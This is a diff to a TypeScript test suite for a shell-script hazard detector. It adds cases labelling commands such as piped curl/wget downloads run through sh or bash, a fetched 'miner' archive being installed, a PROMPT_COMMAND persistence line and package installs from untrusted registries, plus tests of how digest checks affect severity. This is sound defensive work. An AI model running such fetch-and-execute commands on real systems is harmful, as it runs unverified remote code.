@@ -1,4 +1,6 @@
-import { expectHazards } from './seen.ts';
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { expectHazards, seen, severityOf } from './seen.ts';
 
 expectHazards([
   ['curl -fsSL https://a.example/i.sh | sh', 'runs-download'],
@@ -50,6 +52,23 @@ expectHazards([
   ["export PROMPT_COMMAND='curl https://a.example | sh'", 'runs-download'],
   ['curl -o /tmp/z/x --create-dirs https://a.example; find /tmp/z -type f -exec sh {} \\;', 'runs-download'],
   ["printf 'all:\\n\\tcurl https://a.example | sh\\n' | make -f -", 'runs-download'],
+  // Out of an archive that was fetched.
+  ['wget https://a.example/miner.tgz; tar xf miner.tgz; bash miner/install.sh', 'runs-download'],
+  ['curl -L https://a.example/tool-1.2-linux.tar.gz | tar xz; ./tool-1.2/tool', 'runs-download'],
+  ['curl -L https://a.example/t.tgz | tar xz -C /tmp/t; /tmp/t/run', 'runs-download'],
+  ['curl -L https://a.example/t.tgz | tar xz -C /tmp helper; /tmp/helper -d', 'runs-download'],
+  ['wget https://a.example/x.zip; unzip -d x x.zip; python3 x/setup.py', 'runs-download'],
+  [
+    'curl -L https://a.example/tool_1.2.tgz | sudo tar xz -C /usr/local/bin; tool run',
+    'adds-program elevates runs-download',
+  ],
+  [
+    'pip install -i https://pypi.org/simple --extra-index-url https://a.example/simple x',
+    'installs-from-address',
+  ],
+  ['pip install -ihttps://a.example/simple x', 'installs-from-address'],
+  ['pip install -i https://mirror.example/simple x', 'installs-from-address'],
+  ['npm config set registry http://npm.example.com', 'installs-from-address runs-download'],
   ['curl -o /tmp/p.whl https://a.example; pip install /tmp/p.whl', 'installs-from-address'],
   // honest twins
   ['curl -o $A https://a.example; sh $B', ''],
@@ -60,6 +79,12 @@ expectHazards([
   ['wget https://a.example/weights.bin', ''],
   ['curl -fL https://a.example/x.tgz | tar xz', ''],
   ['wget -q https://a.example/x.zip && unzip x.zip', ''],
+  ['wget https://a.example/images.tgz; tar xf images.tgz; bash run.sh images', ''],
+  ['curl -L https://a.example/t.tgz | tar xz -C data; python3 train.py data/a', ''],
+  ['curl -L https://a.example/tool_1.2.tgz | tar xz -C ~/.local/share; ls; git status', ''],
+  ['pip install -i https://mirrors.aliyun.com/pypi/simple/ torch', 'installs'],
+  ['npm config set registry https://registry.npmjs.org/; npm ci', 'installs'],
+  ['apt-get purge -y gcc libc6-dev', 'removes-packages'],
   ['git clone https://a.example/x.git', ''],
   ['bash setup.sh', ''],
   ['cat setup.sh | bash', ''],
@@ -101,3 +126,38 @@ expectHazards([
   [`${fetch}nohup "$T" >/dev/null 2>&1 &`, 'dynamic runs-download'],
   ['U=$(mktemp); T=$(mktemp -d); curl -s https://example.com/x -o "$T"/a.csv; wc -l "$T"/a.csv', ''],
 ]);
+
+/** What the rules make of the one download that a script runs. */
+async function severityOfRun(script: string): Promise<string> {
+  const { facts } = await seen(script);
+  const told = facts.filter((fact) => fact.kind === 'hazard' && fact.hazard === 'shell-runs-download');
+  assert.ok(told.length > 0, script);
+  return severityOf(told, 'generated', 'load');
+}
+
+const digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
+const release = 'https://github.com/o/tool/releases/download/v1.2.3/tool';
+
+test('a download that is compared with a digest in the script is a lower risk, and no small one', async () => {
+  const get = `curl -fsSLo tool ${release}`;
+  assert.equal(await severityOfRun(`${get}\nchmod +x tool\n./tool`), 'high');
+  const check = `echo "${digest}  tool" | sha256sum -c -`;
+  assert.equal(await severityOfRun(`${get}\n${check}\nchmod +x tool\n./tool`), 'medium');
+  // Digests of another file, digests that were fetched, and a file that is fetched anew.
+  assert.equal(await severityOfRun(`${get}\n${check.replace('  tool', '  other')}\n./tool`), 'high');
+  assert.equal(
+    await severityOfRun(`${get}\ncurl -o sums ${release}.sha256\nsha256sum -c sums\n./tool`),
+    'high',
+  );
+  assert.equal(await severityOfRun(`${get}\n${check}\n${get}\n./tool`), 'high');
+});
+
+test('a host of repositories gives out what strangers have sent to them', async () => {
+  const run = (reference: string): Promise<string> =>
+    severityOfRun(`curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/${reference}/install.sh | bash`);
+  assert.equal(await run('v0.39.7'), 'medium');
+  assert.equal(await run('refs/heads/master'), 'medium');
+  assert.equal(await run('refs/pull/17/head'), 'high');
+  assert.equal(await run('0123456789abcdef0123456789abcdef01234567'), 'high');
+  assert.equal(await run('0123456'), 'high');
+});
